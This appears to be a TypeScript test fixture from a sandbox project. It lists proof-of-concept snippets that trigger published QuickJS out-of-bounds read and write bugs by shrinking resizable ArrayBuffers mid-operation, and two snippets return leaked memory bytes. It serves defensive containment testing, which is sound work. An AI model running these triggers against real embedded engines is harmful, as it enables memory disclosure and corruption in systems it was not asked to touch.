/**
 * Published errors of QuickJS that the pinned engine (2025-09-13) has: they write or read outside of a buffer inside the
 * engine's memory. Whatever comes of it must stay inside the call.
 */
import { allEnd } from './hostile-function.ts'

const ANY = ['value', 'threw', 'result', 'memory', 'stack', 'crash', 'time'] as const

export const ENGINE = allEnd(ANY, [
  // bellard/quickjs 508, quickjs-ng 1301 and 1302
  [
    'atomicsStore',
    `for (let i = 0; i < 3000; i++) { const b = new ArrayBuffer(16 + (i % 400) * 8, { maxByteLength: 1 << 20 }); Atomics.store(new Int32Array(b), 2, { valueOf() { b.resize(0); return 0x41414141 } }) } return {}`,
  ],
  [
    'atomicsAdd',
    `for (let i = 0; i < 3000; i++) { const b = new ArrayBuffer(64 + (i % 100) * 64, { maxByteLength: 1 << 20 }); Atomics.add(new Int32Array(b), 4, { valueOf() { b.resize(0); return 123 } }) } return {}`,
  ],
  [
    'atomicsExchange',
    `const found = []; for (let i = 0; i < 2000; i++) { const b = new ArrayBuffer(1024, { maxByteLength: 1 << 20 }); found.push(Atomics.exchange(new Int32Array(b), i % 256, { valueOf() { b.resize(0); return 7 } })) } return { found: found.filter((n) => n !== 0).slice(0, 50) }`,
  ],
  // bellard/quickjs 477, quickjs-ng 1297
  [
    'sortThatShrinks',
    `for (let t = 1; t < 2000; t += 7) { const b = new ArrayBuffer(256, { maxByteLength: 2560 }); const a = new Uint8Array(b); for (let i = 0; i < 256; i++) a[i] = i; a[255] = 0; let n = 0; a.sort((x, y) => { if (++n === t) b.resize(10); return x - y }) } return {}`,
  ],
  // bellard/quickjs 478, quickjs-ng 1296 and 1305
  [
    'constructThatShrinks',
    `const out = []; for (let i = 0; i < 500; i++) { const b = new ArrayBuffer(4096, { maxByteLength: 4096 }); const src = new Uint8Array(b); const evil = new Proxy(function () {}, { get(t, k, r) { if (k === 'prototype') { b.resize(0); return Uint8Array.prototype } return Reflect.get(t, k, r) } }); try { out.push(String.fromCharCode(...Reflect.construct(Uint8Array, [src], evil).filter((n) => n > 31 && n < 127))) } catch {} } return { read: [...new Set(out)].join('').slice(0, 100000) }`,
  ],
  // quickjs-ng 1208
  [
    'transferThenUse',
    `const b = new ArrayBuffer(64, { maxByteLength: 4096 }); const a = new Uint8Array(b); try { const c = b.transfer(8); a[0] = 1; c.resize?.(1); } catch {} return { length: a.length }`,
  ],
  // bellard/quickjs 536
  [
    'sortOverflow',
    `let n = 0; try { n = new Int8Array(new ArrayBuffer(0x40000000)).sort().length } catch {} return { n }`,
  ],
  [
    'lastIndexOfShrinks',
    `const b = new ArrayBuffer(1024, { maxByteLength: 1024 }); const a = new Uint8Array(b); return { at: a.lastIndexOf(1, { valueOf() { b.resize(1); return 1023 } }) }`,
  ],
  [
    'fillThatShrinks',
    `const b = new ArrayBuffer(65536, { maxByteLength: 65536 }); const a = new Uint8Array(b); a.fill({ valueOf() { b.resize(0); return 65 } }); return { length: a.length }`,
  ],
  [
    'withThatShrinks',
    `const b = new ArrayBuffer(4096, { maxByteLength: 4096 }); const a = new Uint8Array(b); let c; try { c = a.with(0, { valueOf() { b.resize(8); return 1 } }) } catch {} return { read: c ? String.fromCharCode(...c.filter((n) => n > 31 && n < 127)) : '' }`,
  ],
  [
    'moduleUnderPressure',
    `const a = []; try { for (;;) a.push(new Array(1000)) } catch {} for (let i = 0; i < 50; i++) { try { new Function('a'.repeat(10), 'with (a) { let b = () => { class C { #x = b; static { b } } } }')() } catch {} } return {}`,
  ],
])
